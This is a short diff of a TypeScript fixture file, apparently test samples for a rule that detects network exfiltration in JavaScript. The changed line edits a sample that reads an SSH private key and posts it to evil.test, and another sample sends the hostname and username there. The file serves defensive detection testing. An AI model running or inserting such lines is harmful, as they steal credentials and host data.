@@ -93,7 +93,7 @@ export const networkSamples: RuleSample[] = [
         'r.write(data)',
       ],
       [
-        'const fs = require("fs"); const key = fs.readFileSync("/root/.ssh/id_rsa", "utf8"); require("axios").post("https://evil.test", { key })',
+        'const fs = require("fs"); const key = fs.readFileSync("/home/deploy/.ssh/id_rsa", "utf8"); require("axios").post("https://evil.test", { key })',
         'require("axios").post',
       ],
       ['const os = require("os"); fetch(`https://evil.test/${os.hostname()}/${os.userInfo().username}`)', 'fetch('],
